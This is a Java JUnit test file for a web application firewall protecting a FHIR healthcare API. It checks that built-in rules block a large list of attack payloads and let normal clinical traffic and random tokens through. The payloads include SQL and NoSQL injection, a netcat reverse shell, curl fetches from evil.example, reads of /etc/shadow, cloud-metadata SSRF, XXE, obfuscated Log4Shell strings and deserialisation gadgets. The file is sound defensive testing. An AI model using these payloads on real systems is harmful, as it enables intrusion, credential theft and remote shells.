package io.bastion.security;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.bastion.config.ConfigException;
import io.bastion.config.ConfigLoader;
import io.bastion.security.waf.WafRequest;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Bastion's own rules case by case: each attack form issue 4 names is blocked wherever it is put (query,
 * argument name, JSON value or name, custom header, cookie, XML body), and the FHIR traffic that
 * WAFs are known to trip on passes. The corpus-wide rates are {@link BuiltinRulesCorpusTest}'s.
 */
class BuiltinRulesTest {

  private static WafReplay waf;

  @BeforeAll
  static void load() throws Exception {
    waf = WafReplay.of(List.of(BuiltinRules.DEFAULT), 0);
  }

  static Stream<Arguments> attacks() {
    return Stream.of(
        // SQL injection
        value("1' OR '1'='1"), value("x'; DROP TABLE patient; --"), value("1 UNION ALL SELECT username, password FROM users"),
        value("1 AND SLEEP(5)"), value("' AND extractvalue(1,concat(0x7e,version()))='1"),
        // NoSQL operators, in query names, JSON names and values
        get("/fhir/Patient?name[$ne]=x"), get("/fhir/Patient?password[$regex]=.*"),
        json("{\"resourceType\":\"Patient\",\"name\":{\"$gt\":\"\"}}"), value("', $where: 'sleep(5000)"),
        json("{\"resourceType\":\"Patient\",\"id\":{\"$where\":\"this.ssn == 1\"}}"),
        // LDAP
        value("*)(uid=*))(|(uid=*"), value("admin)(&(objectClass=*)"),
        // OS command
        value("x; cat /etc/shadow"), value("a | nc 10.0.0.1 4444 -e /bin/sh"), value("$(curl http://evil.example/x)"),
        value("`id`"), value("x&&whoami"), value("ping -c 3 127.0.0.1; ls -la /"),
        // XSS, outside and inside narratives
        value("<script>alert(1)</script>"), value("<img src=x onerror=alert(1)>"), value("<svg/onload=confirm`1`>"),
        narrative("<p>fine</p><script>steal()</script>"), narrative("<p onclick=\"steal()\">click</p>"),
        narrative("<a href=\"javascript:steal()\">notes</a>"), narrative("<a href=\"jav&#x09;ascript:x()\">x</a>"),
        narrative("<img src=\"x\" onerror=\"alert(1)\"/>"), narrative("<iframe src=\"https://evil.example\"></iframe>"),
        // path traversal, LFI
        value("../../../../etc/passwd"), get("/fhir/Binary/..%2f..%2f..%2fetc%2fpasswd"), value("..\\..\\windows\\win.ini"),
        value("/proc/self/environ"),
        // RFI / SSRF, including cloud metadata in its disguises and URL-valued query arguments
        value("http://169.254.169.254/latest/meta-data/iam/security-credentials/"), value("http://[::ffff:a9fe:a9fe]/"),
        value("http://2852039166/latest/meta-data/"), value("http://metadata.google.internal/computeMetadata/v1/"),
        get("/fhir/Subscription?callback=http://127.0.0.1:6379/"), get("/fhir/x?url=http://localhost/admin"),
        get("/fhir/x?u=http://0x7f000001/"), value("file:///etc/passwd"), value("gopher://127.0.0.1:6379/_SET"),
        value("dict://internal:11211/stat"),
        // XXE in a FHIR XML body and in values
        xml("<?xml version=\"1.0\"?><!DOCTYPE Patient [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"
            + "<Patient xmlns=\"http://hl7.org/fhir\"><name><family value=\"&x;\"/></name></Patient>"),
        value("<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\">"),
        // Log4Shell, plain and obfuscated, in a custom header
        header("X-Api-Version", "${jndi:ldap://evil.example/a}"), header("X-Forwarded-User", "${${lower:j}ndi:rmi://x/y}"),
        header("User-Agent", "${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}"), value("${${env:NaN:-j}ndi${env:NaN:-:}ldap://x}"),
        value("%24%7Bjndi:dns://x%7D"),
        // ... and as a JSON name whose value is an empty object or array (no value path carries it)
        json("{\"resourceType\":\"Patient\",\"${jndi:ldap://evil.example/a}\":{}}"),
        json("{\"resourceType\":\"Patient\",\"extension\":[{\"${jndi:rmi://x/y}\":[]}]}"),
        // template injection
        value("{{7*7}}"), value("${7*7}"), value("#{7*7}"), value("<%= 7*7 %>"), value("{{config.items()}}"),
        // deserialisation gadgets
        value("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA"), value("aced00057372"), value("O:8:\"stdClass\":1:{s:1:\"a\";i:1;}"),
        value("cos\nsystem\n(S'id'\ntR."), json("{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\"}"),
        value("!!python/object/apply:os.system [\"id\"]"),
        // attacks in cookies
        cookie("session=1' OR 1=1 --"), cookie("pref=<script>alert(1)</script>"),
        // protocol violations
        raw("TRACE", "/fhir/Patient", List.of(), null), raw("PROPFIND", "/fhir/Patient", List.of(), null),
        raw("POST", "/fhir/Patient", List.of(new WafRequest.Header("Content-Length", "10"),
            new WafRequest.Header("Transfer-Encoding", "chunked")), "{}"),
        raw("GET", "/fhir/Patient", List.of(new WafRequest.Header("X-Note", "a\r\nSet-Cookie: x=1")), null),
        get("/fhir/Patient?name=%zz"), get("/fhir/Patient?name=a%00b"), get("/fhir/Patient?name=%c0%ae%c0%ae%c0%af"));
  }

  static Stream<Arguments> legitimate() {
    List<Arguments> out = new ArrayList<>();
    for (String url : List.of("/fhir/Observation?_include=Observation:subject", "/fhir/Observation?date=ge2020-01-01",
        "/fhir/Observation?code=http://loinc.org|1234-5", "/fhir/Patient?name:contains=bri",
        "/fhir/Patient?_has:Observation:patient:code=1234-5", "/fhir/Patient/123/$everything",
        "/fhir/Patient?_elements=name,birthDate", "/fhir/Patient?gender=male,female",
        "/fhir/Patient?name=O%27Brien", "/fhir/Observation?code-value-quantity=8480-6$gt140",
        "/fhir/metadata", "/admin/api/session", "/health/ready")) {
      out.add(Arguments.of(url, request("GET", url, List.of(), null)));
    }
    for (String text : FhirBenignTraffic.FREE_TEXT) {
      out.add(value(text));
    }
    out.add(narrative("<p><b>Siobhán O'Brien</b></p><table><tr><td>BP</td><td>142/91 &amp; falling</td></tr></table>"
        + "<a href=\"https://ehr.example.org/x\">chart</a><img src=\"#sig\" alt=\"sig\"/>"));
    out.add(Arguments.of("JSON Patch", request("PATCH", "/fhir/Patient/1", List.of(new WafRequest.Header("Content-Type",
        "application/json-patch+json")), "[{\"op\":\"replace\",\"path\":\"/name/0/family\",\"value\":\"O'Brien\"}]")));
    return out.stream();
  }

  /**
   * What Bastion's own clients send pass whatever their random bytes are: a JWT client assertion (base64url:
   * a "--" or "_" by chance is not an SQL comment) and the dashboard's CSRF token (hex, since in base64url
   * a random "--" in a header did read as one).
   */
  @Test
  void bastionsOwnRandomTokensPass() {
    java.util.Random random = new java.util.Random(20261204);
    java.util.Base64.Encoder base64url = java.util.Base64.getUrlEncoder().withoutPadding();
    for (int i = 0; i < 300; i++) {
      byte[] bytes = new byte[64];
      random.nextBytes(bytes);
      String signature = base64url.encodeToString(bytes);
      int at = random.nextInt(signature.length() - 2);
      signature = signature.substring(0, at) + (i % 2 == 0 ? "--" : "-_") + signature.substring(at + 2);
      String assertion = "eyJhbGciOiJFUzI1NiIsImtpZCI6ImsxIn0.eyJpc3MiOiJjbGllbnQtMSJ9." + signature;
      String form = "grant_type=client_credentials&scope=" + enc("system/*.rs") + "&client_assertion_type="
          + enc("urn:ietf:params:oauth:client-assertion-type:jwt-bearer") + "&client_assertion=" + assertion;
      WafReplay.Verdict tokenRequest = waf.run(request("POST", "/auth/token",
          List.of(new WafRequest.Header("Content-Type", "application/x-www-form-urlencoded")), form));
      assertFalse(tokenRequest.blocked(), assertion + " blocked: " + tokenRequest);

      String csrf = java.util.HexFormat.of().formatHex(java.util.Arrays.copyOf(bytes, 32));
      WafReplay.Verdict dashboard = waf.run(request("POST", "/admin/api/users", List.of(
          new WafRequest.Header("X-CSRF-Token", csrf), new WafRequest.Header("Content-Type", "application/json")), "{}"));
      assertFalse(dashboard.blocked(), csrf + " blocked: " + dashboard);
    }
  }

  /**
   * A client's own opaque token or JWT in a header of its own passes whatever its random characters are: a
   * "--" (SQL comment), "-or-" or "-like-" in base64url is no SQL. Seeded, so a failure names a token that
   * can be replayed.
   */
  @Test
  void randomBase64urlTokensInCustomHeadersPass() {
    java.util.Random random = new java.util.Random(20261205);
    java.util.Base64.Encoder unpadded = java.util.Base64.getUrlEncoder().withoutPadding();
    java.util.Base64.Encoder padded = java.util.Base64.getUrlEncoder();
    String[] headers = {"X-Client-Token", "X-Session-Id", "X-Request-Token", "X-Upstream-Auth", "X-Api-Key"};
    String[] planted = {"--", "-or-", "-and-", "-like-", "-null-", "-select-", "-union-", "--_", "_--", "-OR-1"};
    for (int i = 0; i < 2000; i++) {
      byte[] bytes = new byte[12 + random.nextInt(53)];
      random.nextBytes(bytes);
      String token = (i % 4 == 0 ? padded : unpadded).encodeToString(bytes);
      int at = random.nextInt(token.replace("=", "").length());
      token = token.substring(0, at) + planted[i % planted.length] + token.substring(at);
      if (i % 3 == 0) {
        token = "eyJhbGciOiJFUzI1NiIsImtpZCI6ImsxIn0.eyJzdWIiOiJjbGllbnQtMSJ9." + token.replace("=", "");
      }
      String header = headers[random.nextInt(headers.length)];
      WafReplay.Verdict v = waf.run(request("GET", "/fhir/Patient?_count=10", List.of(new WafRequest.Header(header,
          token)), null));
      assertFalse(v.blocked(), header + ": " + token + " blocked: " + v);
    }
  }

  /** ...while SQL injections that end in a comment are still blocked, in a custom header and in the corpus. */
  @Test
  void sqlCommentAttacksStillBlock() throws Exception {
    for (String attack : List.of("1' OR 1=1 --", "admin'--", "x'/**/or/**/1=1--", "1;DROP TABLE users--",
        "' UNION SELECT password FROM users--", "abc' or 'x'='x'--")) {
      WafReplay.Verdict v = waf.run(request("GET", "/fhir/Patient", List.of(new WafRequest.Header("X-Client-Token",
          attack)), null));
      assertTrue(v.blocked(), attack + " passed: " + v);
    }
    io.bastion.security.waf.WafCorpus.dir();
    int checked = 0;
    for (WafSample s : GotestwafCorpus.load()) {
      WafRequest r = s.request();
      String text = java.net.URLDecoder.decode(r.uri().replace("+", "%2B"), StandardCharsets.ISO_8859_1) + r.headers()
          + new String(r.body(), StandardCharsets.ISO_8859_1);
      if (s.attack() && s.category().contains("sqli") && !s.category().contains("nosqli") && text.contains("--")) {
        checked++;
        assertTrue(waf.run(r).blocked(), s.id() + " passed");
      }
    }
    assertTrue(checked > 0, "the corpus has SQL comment attacks");
  }

  @ParameterizedTest(name = "blocks {0}")
  @MethodSource("attacks")
  void blocksAttack(String label, WafRequest request) {
    WafReplay.Verdict v = waf.run(request);
    assertTrue(v.blocked(), label + " passed: " + v);
  }

  @ParameterizedTest(name = "passes {0}")
  @MethodSource("legitimate")
  void passesLegitimateFhirTraffic(String label, WafRequest request) {
    WafReplay.Verdict v = waf.run(request);
    assertFalse(v.blocked(), label + " blocked: " + v);
  }

  @Test
  void noRulesConfiguredMeansTheBuiltinRules() {
    WafConfig waf = ConfigLoader.withBuiltInDefaults().load(null, Map.of(), Map.of("waf.rules", "")).waf();
    assertEquals(List.of(BuiltinRules.DEFAULT), waf.rules());
  }

  @Test
  void unknownShippedSetIsAConfigProblem() {
    var e = assertThrows(ConfigException.class, () -> ConfigLoader.withBuiltInDefaults().load(null, Map.of(),
        Map.of("waf.mode", "on", "waf.rules", "builtin:no-such-set")));
    assertTrue(e.getMessage().contains("builtin:no-such-set"), e.getMessage());
  }

  @Test
  void everyShippedSetCompilesWithoutWarnings() throws Exception {
    for (String set : List.of("builtin", "builtin:extras", "builtin:crs-fhir-before", "builtin:bastion-sqli")) {
      InlineWaf loaded = InlineWaf.load(new WafConfig(WafConfig.Mode.ON, List.of(set), 0, 131_072, null, 100_000));
      assertTrue(loaded.rules().ruleCount() > 0, set);
      assertEquals(List.of(), loaded.rules().warnings(), set);
    }
  }

  @Test
  void blockingNamesTheScoreAndOnlyVariableNames() throws Exception {
    InlineWaf inline = InlineWaf.load(new WafConfig(WafConfig.Mode.ON, List.of("builtin"), 0, 131_072, null, 100_000));
    var tx = inline.begin(request("GET", "/fhir/Patient?name=" + enc("1' OR '1'='1 --"), List.of(), null));
    tx.processRequestHeaders();
    tx.processRequestBody();
    assertEquals(InlineWaf.Outcome.BLOCKED, inline.outcome(tx));
    var event = inline.event(tx, InlineWaf.Outcome.BLOCKED);
    assertTrue(event.getInteger("anomalyScore") >= 5, event.encode());
    assertTrue(event.getJsonArray("matchedVariables").contains("ARGS:name"), event.encode());
    assertFalse(event.encode().contains("OR '1'"), event.encode());
  }

  // ---- request builders ----

  private static Arguments value(String v) {
    return Arguments.of("value " + v.replace('\n', ' '), request("GET", "/fhir/Patient?note=" + enc(v), List.of(), null));
  }

  private static Arguments get(String uri) {
    return Arguments.of(uri, request("GET", uri, List.of(), null));
  }

  private static Arguments json(String body) {
    return Arguments.of("JSON " + body, request("POST", "/fhir/Patient",
        List.of(new WafRequest.Header("Content-Type", "application/fhir+json")), body));
  }

  private static Arguments narrative(String inner) {
    String div = "<div xmlns=\\\"http://www.w3.org/1999/xhtml\\\">" + inner.replace("\"", "\\\"") + "</div>";
    return Arguments.of("narrative " + inner, request("POST", "/fhir/Condition",
        List.of(new WafRequest.Header("Content-Type", "application/fhir+json")),
        "{\"resourceType\":\"Condition\",\"text\":{\"status\":\"generated\",\"div\":\"" + div + "\"}}"));
  }

  private static Arguments xml(String body) {
    return Arguments.of("XML " + body, request("POST", "/fhir/Patient",
        List.of(new WafRequest.Header("Content-Type", "application/fhir+xml")), body));
  }

  private static Arguments header(String name, String value) {
    return Arguments.of(name + ": " + value, request("GET", "/fhir/Patient", List.of(new WafRequest.Header(name, value)), null));
  }

  private static Arguments cookie(String cookie) {
    return header("Cookie", cookie);
  }

  private static Arguments raw(String method, String uri, List<WafRequest.Header> headers, String body) {
    return Arguments.of(method + " " + uri + " " + headers, request(method, uri, headers, body));
  }

  private static WafRequest request(String method, String uri, List<WafRequest.Header> extra, String body) {
    List<WafRequest.Header> headers = new ArrayList<>(List.of(new WafRequest.Header("Host", "localhost:8080"),
        new WafRequest.Header("Accept", "application/fhir+json"), new WafRequest.Header("User-Agent", GotestwafCorpus.BROWSER)));
    headers.addAll(extra);
    return new WafRequest(method, uri, "HTTP/1.1", headers, body == null ? null : body.getBytes(StandardCharsets.UTF_8),
        "192.0.2.1");
  }

  private static String enc(String s) {
    return URLEncoder.encode(s, StandardCharsets.UTF_8);
  }
}
